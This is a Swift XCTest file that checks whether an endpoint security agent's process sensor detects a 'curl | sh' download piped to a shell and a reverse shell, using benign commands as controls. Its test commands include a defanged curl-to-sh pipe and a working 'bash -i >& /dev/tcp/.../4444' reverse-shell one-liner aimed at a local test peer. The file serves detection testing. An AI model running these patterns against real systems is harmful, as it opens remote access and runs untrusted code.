import Foundation
import XCTest

// kernel-test-host-only: a detection made in user space from the sensor's exec records, which every guest suite loads (the guests share two emulated cores)
/// `curl ... | sh` seen from the kernel: the exec records carry the pipes on stdin and stdout,
/// and the agent joins the two ends of the same pipe. Runs on every kernel (process sensor).
final class PipelineDetectionTests: XCTestCase {
    func testDownloadPipedToShellIsReportedAndNeighboursAreNot() throws {
        try KernelTest.require(.tracepoint)
        let agent = try AgentHarness()
        let attack = try KernelTest.run("/usr/bin/bash", ["-c", "curl -s file:///dev/null | sh; true"])
        let catToShell = try KernelTest.run("/usr/bin/bash", ["-c", "cat /dev/null | sh; true"])
        let curlToCat = try KernelTest.run("/usr/bin/bash", ["-c", "curl -s file:///dev/null | cat; true"])
        for r in [attack, catToShell, curlToCat] { XCTAssertEqual(r.status, 0, r.stderr) }
        let events = try agent.waitForEvents("process_pipeline") { e in e.contains { $0.parent["pid"] as? Int == Int(attack.pid) } }
        let hit = try XCTUnwrap(events.first { $0.parent["pid"] as? Int == Int(attack.pid) }, "curl | sh is reported")
        XCTAssertEqual(hit.body["detection"] as? String, "download-piped-to-shell")
        XCTAssertEqual(hit.process["binary"] as? String, "/usr/bin/dash", "the shell (sh is dash here)")
        let source = try XCTUnwrap(hit.body["source"] as? [String: Any])
        XCTAssertEqual(source["binary"] as? String, "/usr/bin/curl")
        XCTAssertEqual(source["parent_exec_id"] as? String, hit.process["parent_exec_id"] as? String, "both ends are children of the same shell")
        let all = try agent.barrier().filter { $0.kind == "process_pipeline" }
        for benign in [catToShell, curlToCat] {
            XCTAssertFalse(all.contains { $0.parent["pid"] as? Int == Int(benign.pid) }, "a pipe without a download tool and a shell is not reported")
        }
    }

    func testShellWithSocketStdioIsAReverseShell() throws {
        try KernelTest.require(.tracepoint)
        let peer = try NetnsPeer(subnet: 35)
        defer { peer.remove() }
        try peer.listen(port: 4444)
        let agent = try AgentHarness()
        // the outer bash connects and starts `bash -i` with the socket as stdin and stdout
        let attack = try KernelTest.run("/usr/bin/bash", ["-c", "timeout 2 bash -i >& /dev/tcp/\(peer.peerAddress)/4444 0>&1; true"])
        let benign = try KernelTest.run("/usr/bin/bash", ["-c", "bash -c true < /dev/null; true"])
        let events = try agent.waitForEvents("process_reverse_shell") { !$0.isEmpty }
        let hit = try XCTUnwrap(events.first, "bash -i on a socket is reported (\(attack.stderr))")
        XCTAssertEqual(hit.process["binary"] as? String, "/usr/bin/bash")
        XCTAssertEqual(hit.body["detection"] as? String, "reverse-shell-stdio-socket")
        XCTAssertTrue((hit.process["arguments"] as? String ?? "").contains("-i"))
        XCTAssertFalse(try agent.barrier().contains { $0.kind == "process_reverse_shell" && $0.parent["pid"] as? Int == Int(benign.pid) })
    }
}
